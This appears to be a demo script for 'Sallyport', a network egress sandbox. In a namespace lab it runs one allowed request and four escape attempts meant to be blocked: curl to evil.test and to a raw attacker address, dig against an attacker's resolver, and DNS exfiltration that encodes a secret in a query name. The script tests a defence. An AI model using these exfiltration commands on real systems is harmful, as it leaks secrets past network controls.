"""./dev demo: one allowed and four denied attempts in a small internet, each with what the witness on the outside counted."""

import sys
import textwrap

from small_internet import world
from small_internet.lab import Lab

BOLD, GREEN, RED, DIM, PLAIN = (
    ("\033[1m", "\033[32m", "\033[31m", "\033[2m", "\033[0m") if sys.stdout.isatty() else ("",) * 5
)
SECRET = "c2VjcmV0LWtleS1vZi10aGUtYWdlbnQ"
ALLOW = "api.example.test:443"

# (title, what it shows, command)
DENIED = [
    ("another name", "a name outside the policy does not even get a DNS query", ["curl", "-sS", "https://evil.test/"]),
    (
        "a raw address",
        "no name, no DNS: straight to an address",
        ["curl", "-sSk", "--max-time", "5", f"https://{world.EVIL4}/"],
    ),
    (
        "another resolver",
        "a resolver of the attacker's choice",
        ["dig", "+short", "+tries=1", "+time=2", f"@{world.OTHER_RESOLVER}", "evil.test"],
    ),
    (
        "exfiltration by DNS",
        "the query itself would carry the secret out",
        ["dig", "+short", "+tries=1", "+time=2", f"{SECRET}.evil.test"],
    ),
]


def show(text):
    print(textwrap.indent(text.rstrip("\n"), "    "))


def seen_by_witness(seen):
    connections = sum(n for key, n in seen.arrived.items() if key[0] == "tcp" and key[2] != 53)
    packets = sum(n for key, n in seen.arrived.items() if not (key[0] == "tcp" and key[2] != 53))
    return connections, packets, len(seen.asked)


def main():
    print(f"{BOLD}Sallyport: one name allowed, everything else has no way out{PLAIN}")
    print("A small internet in network namespaces: name servers, web servers, an attacker's host. A witness on its")
    print("side of the wire counts every packet, connection and DNS query that arrives. The command runs as a user")
    print("without any capability, with no proxy variable, certificate or wrapper.\n")
    lab = Lab()
    failed = 0
    try:
        # The control: without Sallyport each of the four does get out.
        print(f"{BOLD}0. Without Sallyport{PLAIN}, the same host reaches the attacker:")
        with lab.witness.watch() as seen:
            for _, _, command in DENIED:
                lab.bare(*command)
        connections, packets, questions = seen_by_witness(seen)
        print(f"   witness: {connections} connections, {questions} DNS queries, {SECRET[:8]}... among them\n")
        failed += connections < 2 or not [q for q in seen.asked if q.name.startswith(SECRET.lower())]

        command = ["curl", "-sS", "https://api.example.test/whoami"]
        print(f"{BOLD}1. Allowed{PLAIN}  $ sallyport run --allow {ALLOW} -- {' '.join(command)}")
        with lab.witness.watch() as seen:
            run = lab.run(*command, allow=[ALLOW])
        show(run.text + run.errors)
        good = run.status == 0 and "sni=api.example.test" in run.text
        failed += not good
        connections, _, questions = seen_by_witness(seen)
        print(
            f"   {GREEN if good else RED}{'it works' if good else 'it FAILED'}{PLAIN}; witness: {connections} connection to api.example.test, {questions} DNS queries for it\n"
        )

        for number, (title, why, command) in enumerate(DENIED, 2):
            print(
                f"{BOLD}{number}. Denied: {title}{PLAIN} ({why})\n   $ sallyport run --allow {ALLOW} -- {' '.join(command)}"
            )
            with lab.witness.watch() as seen:
                run = lab.run(*command, allow=[ALLOW])
            show(run.text + run.errors)
            connections, packets, questions = seen_by_witness(seen)
            good = (connections, packets, questions) == (0, 0, 0) and bool(run.denials()) and not run.text
            failed += not good
            print(
                f"   {GREEN if good else RED}witness: {connections} connections, {packets} packets, {questions} DNS queries{PLAIN} ({run.seconds:.2f} s)\n"
            )
    finally:
        lab.close()
    print(
        f"{BOLD}{'All as promised.' if not failed else f'{failed} of 6 steps went wrong.'}{PLAIN}"
        f" {DIM}Next: ./dev test; build/bin/sallyport run --help{PLAIN}"
    )
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
